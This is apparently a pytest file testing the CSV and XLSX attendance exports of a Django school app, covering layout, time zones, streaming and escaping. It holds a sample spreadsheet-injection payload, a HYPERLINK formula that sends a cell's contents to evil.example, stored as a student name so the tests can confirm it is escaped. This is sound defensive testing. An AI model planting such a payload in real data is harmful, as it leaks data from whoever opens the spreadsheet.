"""CSV and XLSX exports, opened with csv and openpyxl as their readers would.

CSV is for programs: one header row over flat rows. XLSX is for people: a heading block, a bold
frozen header row with filters, real dates and times, rates as percentages beside the name and
the totals on their own sheet. Formula-like text is escaped in both.

The school is in Paris here, so a time that is not converted to it shows up an hour off.
"""

from __future__ import annotations

import csv
import datetime
import io
from typing import Any

import pytest
from asgiref.sync import async_to_sync
from django.contrib.auth.models import User
from django.core.signals import request_finished
from django.db import close_old_connections, connection
from django.http.response import HttpResponseBase
from django.test import AsyncRequestFactory, Client
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from openpyxl import load_workbook
from openpyxl.workbook.workbook import Workbook
from openpyxl.worksheet.worksheet import Worksheet

from attendance.exports import safe_cell
from attendance.models import AttendanceRecord, ClassSession, Course, Enrollment
from attendance.report_views import course_report
from students.models import Student

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
ESCAPED = "'" + EVIL
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@pytest.fixture(autouse=True)
def school_in_paris(settings: Any) -> None:
    settings.TIME_ZONE = "Europe/Paris"


def at(day: str, hour: int, minute: int = 0) -> datetime.datetime:
    """An aware time at the school (Paris)."""
    return timezone.make_aware(datetime.datetime.fromisoformat(day).replace(hour=hour, minute=minute))


def local(day: str, hour: int, minute: int = 0) -> datetime.datetime:
    """The same time as the spreadsheet holds it: naive, in the school's time zone."""
    return datetime.datetime.fromisoformat(day).replace(hour=hour, minute=minute)


@pytest.fixture
def two_weeks(course: Course, student: Student, teacher: User) -> dict[str, Any]:
    """Ada Lovelace and a student whose name is a formula, over two closed sessions of CS101."""
    mallory = Student.objects.create(student_number="S666", first_name=EVIL)
    Enrollment.objects.create(course=course, student=mallory, start_date="2020-01-01")
    first, second = (
        ClassSession.objects.create(
            course=course, starts_at=at(day, 9), ends_at=at(day, 10), state=ClassSession.State.CLOSED
        )
        for day in ("2025-03-03", "2025-03-10")
    )
    for session, who, status, source, seen in [
        (first, student, "present", "face", at("2025-03-03", 9, 2)),
        (second, student, "late", "face", at("2025-03-10", 9, 15)),
        (first, mallory, "absent", "manual", None),
        (second, mallory, "excused", "manual", None),
    ]:
        AttendanceRecord.objects.create(session=session, student=who, status=status, source=source, first_seen_at=seen)
    AttendanceRecord.objects.filter(session=first, student=mallory).update(note="Phoned in sick", changed_by=teacher)
    return {"course": course, "first": first, "ada": student, "mallory": mallory}


def get(client: Client, url: str, export_format: str) -> bytes:
    response = client.get(url + ("&" if "?" in url else "?") + f"format={export_format}")
    assert response.status_code == 200
    content = body(response)
    if export_format == "xlsx":
        assert response["Content-Type"] == XLSX
        assert int(response["Content-Length"]) == len(content)
    else:
        assert response["Content-Type"] == "text/csv; charset=utf-8"
    return content


def body(response: HttpResponseBase) -> bytes:
    assert response.streaming
    return b"".join(response.streaming_content)  # type: ignore[attr-defined]


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def workbook(content: bytes) -> Workbook:
    return load_workbook(io.BytesIO(content))


def values(sheet: Worksheet, *, first_row: int = 1) -> list[list[Any]]:
    return [list(row) for row in sheet.iter_rows(min_row=first_row, values_only=True)]


# --- CSV: flat, for programs ----------------------------------------------------------------

TALLY = ["Present", "Late", "Absent", "Excused", "Sessions counted", "Rate (%)", "Below 75%"]
SESSION_CSV = [
    ["Student number", "Name", "Status", "First seen", "Source", "Note", "Changed by"],
    ["S666", ESCAPED, "Absent", "", "Manual", "Phoned in sick", "Tess Teacher"],
    ["S001", "Ada Lovelace", "Present", "2025-03-03 09:02:00", "Face recognition", "", ""],
]
OPEN_COUNTED = "Open sessions counted"
COURSE_CSV = [
    ["Student number", "Name", "2025-03-03 09:00", "2025-03-10 09:00", *TALLY, OPEN_COUNTED],
    ["S666", ESCAPED, "Absent", "Excused", "0", "0", "1", "1", "2", "0.0", "yes", "no"],  # 0 / (2 - 1)
    ["S001", "Ada Lovelace", "Present", "Late", "1", "1", "0", "0", "2", "100.0", "", "no"],
]
STUDENT_CSV = [
    ["Course", "Course name", "Session", "Status", "First seen", "Source", OPEN_COUNTED],
    ["CS101", "Computing", "2025-03-03 09:00", "Present", "2025-03-03 09:02:00", "Face recognition", "no"],
    ["CS101", "Computing", "2025-03-10 09:00", "Late", "2025-03-10 09:15:00", "Face recognition", "no"],
]


def report_urls(data: dict[str, Any]) -> dict[str, str]:
    return {
        "session": f"/reports/sessions/{data['first'].pk}/",
        "course": f"/reports/courses/{data['course'].pk}/",
        "student": f"/reports/students/{data['ada'].pk}/",
    }


@pytest.mark.parametrize(
    ("report", "rows"), [("session", SESSION_CSV), ("course", COURSE_CSV), ("student", STUDENT_CSV)]
)
def test_csv_is_one_header_row_over_flat_rows(
    client: Client, teacher: User, two_weeks: dict[str, Any], report: str, rows: list[list[str]]
) -> None:
    """No heading, no totals stacked below, no empty rows: every row has the header's columns."""
    client.force_login(teacher)

    assert csv_rows(get(client, report_urls(two_weeks)[report], "csv")) == rows


def test_csv_of_a_date_range_has_only_its_sessions(client: Client, teacher: User, two_weeks: dict[str, Any]) -> None:
    client.force_login(teacher)
    url = f"/reports/courses/{two_weeks['course'].pk}/?from=2025-03-05&to=2025-03-31"

    assert csv_rows(get(client, url, "csv")) == [
        ["Student number", "Name", "2025-03-10 09:00", *TALLY, OPEN_COUNTED],
        ["S666", ESCAPED, "Excused", "0", "0", "0", "1", "1", "", "", "no"],  # nothing left to count: no rate
        ["S001", "Ada Lovelace", "Late", "0", "1", "0", "0", "1", "100.0", "", "no"],
    ]


# --- XLSX: for people -----------------------------------------------------------------------


def test_session_xlsx_has_a_heading_and_a_frozen_bold_filtered_header(
    client: Client, teacher: User, two_weeks: dict[str, Any]
) -> None:
    client.force_login(teacher)
    book = workbook(get(client, report_urls(two_weeks)["session"], "xlsx"))

    assert book.sheetnames == ["Attendance", "Totals"]
    sheet = book["Attendance"]
    assert values(sheet) == [
        ["Course", "CS101 Computing", None, None, None, None, None],
        ["Starts", local("2025-03-03", 9), None, None, None, None, None],
        ["Ends", local("2025-03-03", 10), None, None, None, None, None],
        ["State", "Closed", None, None, None, None, None],
        ["Time zone", "Europe/Paris", None, None, None, None, None],
        [None] * 7,
        ["Student number", "Name", "Status", "First seen", "Source", "Note", "Changed by"],
        ["S666", ESCAPED, "Absent", None, "Manual", "Phoned in sick", "Tess Teacher"],
        ["S001", "Ada Lovelace", "Present", local("2025-03-03", 9, 2), "Face recognition", None, None],
    ]
    assert sheet["B2"].number_format == "yyyy-mm-dd hh:mm"
    assert [sheet.cell(row, 1).font.b for row in range(1, 6)] == [True] * 5  # the heading's labels
    assert [cell.font.b for cell in sheet[7]] == [True] * 7
    assert not any(cell.font.b for cell in sheet[8])
    assert sheet.freeze_panes == "C8"  # below the header, the number and name kept in view
    assert sheet.auto_filter.ref == "A7:G9"
    assert sheet["D9"].is_date and sheet["D9"].number_format == "yyyy-mm-dd hh:mm:ss"


def test_session_xlsx_totals_are_on_their_own_sheet(client: Client, teacher: User, two_weeks: dict[str, Any]) -> None:
    client.force_login(teacher)
    totals = workbook(get(client, report_urls(two_weeks)["session"], "xlsx"))["Totals"]

    assert values(totals, first_row=7) == [
        ["Rate (%)", "Below 75%", "Present", "Late", "Absent", "Excused", "Students counted"],
        [0.5, "yes", 1, 0, 1, 0, 2],
    ]
    assert totals["A1"].value == "Course" and totals["B1"].value == "CS101 Computing"
    assert totals["A8"].number_format == "0.0%"
    assert totals.freeze_panes == "A8"
    assert totals.auto_filter.ref == "A7:G8"


def test_course_xlsx_puts_the_rate_as_a_percentage_beside_the_name(
    client: Client, teacher: User, two_weeks: dict[str, Any]
) -> None:
    client.force_login(teacher)
    sheet = workbook(get(client, report_urls(two_weeks)["course"], "xlsx"))["Attendance"]

    assert values(sheet, first_row=1)[:8] == [
        ["Course", "CS101 Computing", *[None] * 9],
        ["From", "the first session", *[None] * 9],
        ["To", "the last session", *[None] * 9],
        ["Sessions counted", 2, *[None] * 9],
        ["Open sessions", "left out (0)", *[None] * 9],
        ["Sessions cancelled", 0, *[None] * 9],
        ["Time zone", "Europe/Paris", *[None] * 9],
        [None] * 11,
    ]
    sessions = [local("2025-03-03", 9), local("2025-03-10", 9)]
    counts = ["Present", "Late", "Absent", "Excused", "Sessions counted"]
    assert values(sheet, first_row=9) == [
        ["Student number", "Name", "Rate (%)", "Below 75%", *sessions, *counts],
        ["S666", ESCAPED, 0.0, "yes", "Absent", "Excused", 0, 0, 1, 1, 2],
        ["S001", "Ada Lovelace", 1.0, None, "Present", "Late", 1, 1, 0, 0, 2],
    ]
    assert [sheet.cell(row, 3).number_format for row in (10, 11)] == ["0.0%", "0.0%"]
    assert [cell.font.b for cell in sheet[9]] == [True] * 11
    assert sheet["E9"].is_date and sheet["E9"].number_format == "yyyy-mm-dd hh:mm"
    assert sheet.freeze_panes == "E10"  # the names and the rate stay in view beside the sessions
    assert sheet.auto_filter.ref == "A9:K11"


def test_course_xlsx_totals_are_one_row_per_session(client: Client, teacher: User, two_weeks: dict[str, Any]) -> None:
    client.force_login(teacher)
    totals = workbook(get(client, report_urls(two_weeks)["course"], "xlsx"))["Totals"]

    assert values(totals, first_row=9) == [
        ["Session", "Rate (%)", "Below 75%", "Present", "Late", "Absent", "Excused", "Students counted"],
        [local("2025-03-03", 9), 0.5, "yes", 1, 0, 1, 0, 2],
        [local("2025-03-10", 9), 1.0, None, 0, 1, 0, 1, 2],
    ]
    assert totals["A10"].number_format == "yyyy-mm-dd hh:mm" and totals["B10"].number_format == "0.0%"
    assert totals.freeze_panes == "A10"
    assert totals.auto_filter.ref == "A9:H11"


def test_course_xlsx_heading_shows_the_date_range(client: Client, teacher: User, two_weeks: dict[str, Any]) -> None:
    client.force_login(teacher)
    url = f"/reports/courses/{two_weeks['course'].pk}/?from=2025-03-05&to=2025-03-31"
    sheet = workbook(get(client, url, "xlsx"))["Attendance"]

    assert [row[:2] for row in values(sheet)[:4]] == [
        ["Course", "CS101 Computing"],
        ["From", datetime.datetime(2025, 3, 5)],
        ["To", datetime.datetime(2025, 3, 31)],
        ["Sessions counted", 1],
    ]
    assert sheet["B2"].number_format == "yyyy-mm-dd"
    assert values(sheet, first_row=10) == [
        ["S666", ESCAPED, None, None, "Excused", 0, 0, 0, 1, 1],  # nothing left to count: no rate
        ["S001", "Ada Lovelace", 1.0, None, "Late", 0, 1, 0, 0, 1],
    ]


def test_student_xlsx_lists_sessions_and_puts_course_totals_on_their_own_sheet(
    client: Client, teacher: User, two_weeks: dict[str, Any]
) -> None:
    client.force_login(teacher)
    book = workbook(get(client, report_urls(two_weeks)["student"], "xlsx"))

    sheet, totals = book["Attendance"], book["Totals"]
    assert values(sheet) == [
        ["Student", "S001 Ada Lovelace", None, None, None, None],
        ["Open sessions", "left out", None, None, None, None],
        ["Time zone", "Europe/Paris", None, None, None, None],
        [None] * 6,
        ["Course", "Course name", "Session", "Status", "First seen", "Source"],
        ["CS101", "Computing", local("2025-03-03", 9), "Present", local("2025-03-03", 9, 2), "Face recognition"],
        ["CS101", "Computing", local("2025-03-10", 9), "Late", local("2025-03-10", 9, 15), "Face recognition"],
    ]
    assert (sheet["C6"].number_format, sheet["E6"].number_format) == ("yyyy-mm-dd hh:mm", "yyyy-mm-dd hh:mm:ss")
    assert sheet.freeze_panes == "A6"
    assert sheet.auto_filter.ref == "A5:F7"
    assert values(totals, first_row=5) == [
        ["Course", "Course name", "Rate (%)", "Below 75%", "Present", "Late", "Absent", "Excused", "Sessions counted"],
        ["CS101", "Computing", 1.0, None, 1, 1, 0, 0, 2],
    ]
    assert totals["C6"].number_format == "0.0%"
    assert [cell.font.b for cell in totals[5]] == [True] * 9


def test_times_are_the_schools_local_times(client: Client, teacher: User, course: Course, student: Student) -> None:
    """08:00 UTC is 09:00 in Paris in March: naive 09:00 in XLSX (Excel has no time zones), 09:00 in CSV."""
    utc = datetime.UTC
    session = ClassSession.objects.create(
        course=course,
        starts_at=datetime.datetime(2025, 3, 3, 8, 0, tzinfo=utc),
        ends_at=datetime.datetime(2025, 3, 3, 9, 0, tzinfo=utc),
        state=ClassSession.State.CLOSED,
    )
    AttendanceRecord.objects.create(
        session=session,
        student=student,
        status="present",
        source="face",
        first_seen_at=datetime.datetime(2025, 3, 3, 8, 1, 30, tzinfo=utc),
    )
    client.force_login(teacher)
    url = f"/reports/sessions/{session.pk}/"

    sheet = workbook(get(client, url, "xlsx"))["Attendance"]
    assert sheet["B2"].value == datetime.datetime(2025, 3, 3, 9, 0)
    assert sheet["D8"].value == datetime.datetime(2025, 3, 3, 9, 1, 30)
    assert csv_rows(get(client, url, "csv"))[1][3] == "2025-03-03 09:01:30"


def test_times_fit_their_columns(client: Client, teacher: User, two_weeks: dict[str, Any]) -> None:
    """Excel shows a time wider than its column as ####; these formats are as wide as the text they show."""
    client.force_login(teacher)
    checked, too_narrow = 0, []
    for report, url in report_urls(two_weeks).items():
        for sheet in workbook(get(client, url, "xlsx")).worksheets:
            dates = [cell for row in sheet.iter_rows() for cell in row if cell.is_date]
            checked += len(dates)
            too_narrow += [
                (report, sheet.title, cell.coordinate)
                for cell in dates
                if sheet.column_dimensions[cell.column_letter].width <= len(cell.number_format)
            ]
    # Session: start and end in both headings, a first seen; course: the sessions on both sheets;
    # student: the sessions and the times first seen.
    assert checked == 2 + 2 + 1 + 2 + 2 + 4
    assert too_narrow == []


def test_session_export_queries_do_not_grow_with_changed_records(
    client: Client, teacher: User, two_weeks: dict[str, Any]
) -> None:
    client.force_login(teacher)
    url = report_urls(two_weeks)["session"]
    with CaptureQueriesContext(connection) as before:
        get(client, url, "csv")
    for number in range(20):
        extra = Student.objects.create(student_number=f"X{number:03}", last_name=f"Extra {number}")
        Enrollment.objects.create(course=two_weeks["course"], student=extra, start_date="2020-01-01")
        AttendanceRecord.objects.create(
            session=two_weeks["first"], student=extra, status="late", source="manual", changed_by=teacher
        )
    with CaptureQueriesContext(connection) as after:
        rows = csv_rows(get(client, url, "csv"))

    assert len(rows) == 1 + 22
    assert [row[-1] for row in rows].count("Tess Teacher") == 21
    assert len(after.captured_queries) == len(before.captured_queries)


def test_downloads_are_named_after_the_report(client: Client, teacher: User, two_weeks: dict[str, Any]) -> None:
    client.force_login(teacher)
    course = two_weeks["course"]

    response = client.get(f"/reports/courses/{course.pk}/?from=2025-03-01&to=2025-03-31&format=csv")
    assert response["Content-Disposition"] == 'attachment; filename="attendance-CS101-2025-03-01-2025-03-31.csv"'
    response = client.get(f"/reports/sessions/{two_weeks['first'].pk}/?format=xlsx")
    assert response["Content-Disposition"] == 'attachment; filename="attendance-CS101-2025-03-03-0900.xlsx"'
    response = client.get(f"/reports/students/{two_weeks['ada'].pk}/?format=csv")
    assert response["Content-Disposition"] == 'attachment; filename="attendance-S001.csv"'


# --- Formula injection and characters a spreadsheet refuses ------------------------------------


def formula_free(book: Workbook) -> list[Any]:
    """Every cell value of every sheet, after checking that none is a formula."""
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} <= {"s", "n", "d"}  # no formula ("f") anywhere
    return [cell.value for cell in cells]


@pytest.mark.parametrize("report", ["session", "course"])
def test_a_formula_in_a_name_stays_text(client: Client, teacher: User, two_weeks: dict[str, Any], report: str) -> None:
    client.force_login(teacher)
    url = report_urls(two_weeks)[report]

    as_csv = get(client, url, "csv").decode("utf-8-sig")
    assert '"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")"' in as_csv
    assert "\n=" not in as_csv and ",=" not in as_csv
    assert [value for value in formula_free(workbook(get(client, url, "xlsx"))) if "HYPERLINK" in str(value)] == [
        ESCAPED
    ]


def test_a_formula_in_a_note_or_a_course_name_stays_text(
    client: Client, teacher: User, two_weeks: dict[str, Any]
) -> None:
    Course.objects.filter(pk=two_weeks["course"].pk).update(code="@CS", name="+SUM(1)")
    AttendanceRecord.objects.filter(session=two_weeks["first"], student=two_weeks["ada"]).update(note="-1+2")
    client.force_login(teacher)
    url = report_urls(two_weeks)["session"]

    assert csv_rows(get(client, url, "csv"))[2][5] == "'-1+2"
    cells = formula_free(workbook(get(client, url, "xlsx")))
    assert "'@CS +SUM(1)" in cells and "'-1+2" in cells


def test_control_characters_in_a_note_do_not_break_the_xlsx(
    client: Client, teacher: User, two_weeks: dict[str, Any]
) -> None:
    """openpyxl refuses them in a cell; the teacher's note shows a replacement mark instead."""
    AttendanceRecord.objects.filter(session=two_weeks["first"], student=two_weeks["ada"]).update(note="bell\x07 here")
    client.force_login(teacher)
    url = report_urls(two_weeks)["session"]

    assert workbook(get(client, url, "xlsx"))["Attendance"]["F9"].value == "bell\ufffd here"
    assert csv_rows(get(client, url, "csv"))[2][5] == "bell\x07 here"


def test_the_pages_show_the_name_as_it_is(client: Client, teacher: User, two_weeks: dict[str, Any]) -> None:
    client.force_login(teacher)
    html = client.get(f"/reports/courses/{two_weeks['course'].pk}/").content.decode()

    assert "=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1,&quot;Click me&quot;)" in html


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1:A2)", "\tx", "\rx", EVIL])
def test_safe_cell_escapes_what_a_spreadsheet_would_run(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Ada Lovelace", "", "x=1", "'quoted", 5, -5, 1.5, None])
def test_safe_cell_leaves_the_rest_alone(value: str | float | None) -> None:
    assert safe_cell(value) == value


# --- Streaming under ASGI -----------------------------------------------------------------------


async def _collect(response: HttpResponseBase) -> bytes:
    return b"".join([chunk async for chunk in response])  # type: ignore[attr-defined]


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_under_asgi_exports_stream_as_async_iterators(
    teacher: User, two_weeks: dict[str, Any], export_format: str
) -> None:
    """Django would read a synchronous iterator into a list first under ASGI, the whole export in memory."""
    course = two_weeks["course"]
    request = AsyncRequestFactory().get(f"/reports/courses/{course.pk}/", {"format": export_format})
    request.user = teacher

    response = course_report(request, course_id=course.pk)
    assert response.is_async  # type: ignore[attr-defined]
    content = async_to_sync(_collect)(response)
    # As Django's test client does: closing the response must not close the test's connection.
    request_finished.disconnect(close_old_connections)
    try:
        response.close()
    finally:
        request_finished.connect(close_old_connections)

    if export_format == "csv":
        assert csv_rows(content) == COURSE_CSV
    else:
        assert [row[:3] for row in values(workbook(content)["Attendance"], first_row=10)] == [
            ["S666", ESCAPED, 0.0],
            ["S001", "Ada Lovelace", 1.0],
        ]


# --- Open sessions: left out unless asked for, and the export says which -----------------------


@pytest.fixture
def open_session(two_weeks: dict[str, Any]) -> ClassSession:
    """A third session of CS101, still open: Ada has been seen, the other student not yet."""
    session = ClassSession.objects.create(
        course=two_weeks["course"],
        starts_at=at("2025-03-17", 9),
        ends_at=at("2025-03-17", 10),
        state=ClassSession.State.OPEN,
    )
    AttendanceRecord.objects.create(
        session=session, student=two_weeks["ada"], status="present", source="face", first_seen_at=at("2025-03-17", 9, 1)
    )
    return session


def test_course_csv_counts_the_open_session_only_when_asked(
    client: Client, teacher: User, two_weeks: dict[str, Any], open_session: ClassSession
) -> None:
    client.force_login(teacher)
    url = report_urls(two_weeks)["course"]

    assert csv_rows(get(client, url, "csv")) == COURSE_CSV
    assert csv_rows(get(client, url + "?include_open=1", "csv")) == [
        [
            "Student number",
            "Name",
            "2025-03-03 09:00",
            "2025-03-10 09:00",
            "2025-03-17 09:00 (open)",
            *TALLY,
            OPEN_COUNTED,
        ],
        ["S666", ESCAPED, "Absent", "Excused", "Absent", "0", "0", "2", "1", "3", "0.0", "yes", "yes"],  # 0 / (3 - 1)
        ["S001", "Ada Lovelace", "Present", "Late", "Present", "2", "1", "0", "0", "3", "100.0", "", "yes"],
    ]


def test_student_csv_counts_the_open_session_only_when_asked(
    client: Client, teacher: User, two_weeks: dict[str, Any], open_session: ClassSession
) -> None:
    client.force_login(teacher)
    url = report_urls(two_weeks)["student"]

    assert csv_rows(get(client, url, "csv")) == STUDENT_CSV
    assert csv_rows(get(client, url + "?include_open=1", "csv"))[1:] == [
        [*row[:-1], "yes"] for row in STUDENT_CSV[1:]
    ] + [["CS101", "Computing", "2025-03-17 09:00 (open)", "Present", "2025-03-17 09:01:00", "Face recognition", "yes"]]


def test_xlsx_headings_say_whether_open_sessions_were_counted(
    client: Client, teacher: User, two_weeks: dict[str, Any], open_session: ClassSession
) -> None:
    client.force_login(teacher)
    course_url, student_url = report_urls(two_weeks)["course"], report_urls(two_weeks)["student"]

    left_out = workbook(get(client, course_url, "xlsx"))
    assert [row[:2] for row in values(left_out["Attendance"])[3:5]] == [
        ["Sessions counted", 2],
        ["Open sessions", "left out (1)"],
    ]
    assert values(left_out["Attendance"], first_row=9)[0][4:6] == [local("2025-03-03", 9), local("2025-03-10", 9)]
    assert [row[0] for row in values(left_out["Totals"], first_row=10)] == [
        local("2025-03-03", 9),
        local("2025-03-10", 9),
    ]

    counted = workbook(get(client, course_url + "?include_open=1", "xlsx"))
    sheet = counted["Attendance"]
    assert [row[:2] for row in values(sheet)[3:5]] == [
        ["Sessions counted", 3],
        ["Open sessions", "counted (their figures are provisional)"],
    ]
    # The names, the rate, the three sessions and the counts: no CSV-only column in the sheet.
    assert values(sheet, first_row=9)[0][4:8] == [
        local("2025-03-03", 9),
        local("2025-03-10", 9),
        "2025-03-17 09:00 (open)",
        "Present",
    ]
    assert values(sheet, first_row=11)[0] == [
        "S001",
        "Ada Lovelace",
        1.0,
        None,
        "Present",
        "Late",
        "Present",
        2,
        1,
        0,
        0,
        3,
    ]
    assert [row[0] for row in values(counted["Totals"], first_row=12)] == ["2025-03-17 09:00 (open)"]

    student = workbook(get(client, student_url + "?include_open=1", "xlsx"))["Attendance"]
    assert values(student)[1][:2] == ["Open sessions", "counted (their figures are provisional)"]
    assert values(student, first_row=5)[0] == ["Course", "Course name", "Session", "Status", "First seen", "Source"]


def test_the_session_xlsx_of_an_open_session_says_it_is_provisional(
    client: Client, teacher: User, two_weeks: dict[str, Any], open_session: ClassSession
) -> None:
    client.force_login(teacher)
    sheet = workbook(get(client, f"/reports/sessions/{open_session.pk}/", "xlsx"))["Attendance"]

    assert sheet["A4"].value == "State"
    assert sheet["B4"].value == "Open: still taking attendance, the figures are provisional"


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_a_bad_switch_on_an_export_is_400(
    client: Client, teacher: User, two_weeks: dict[str, Any], export_format: str
) -> None:
    client.force_login(teacher)
    for report in ("course", "student"):
        response = client.get(f"{report_urls(two_weeks)[report]}?include_open=all&format={export_format}")
        assert response.status_code == 400
        assert response.content.decode() == "'include_open' must be 1 or 0 (true or false), not 'all'."
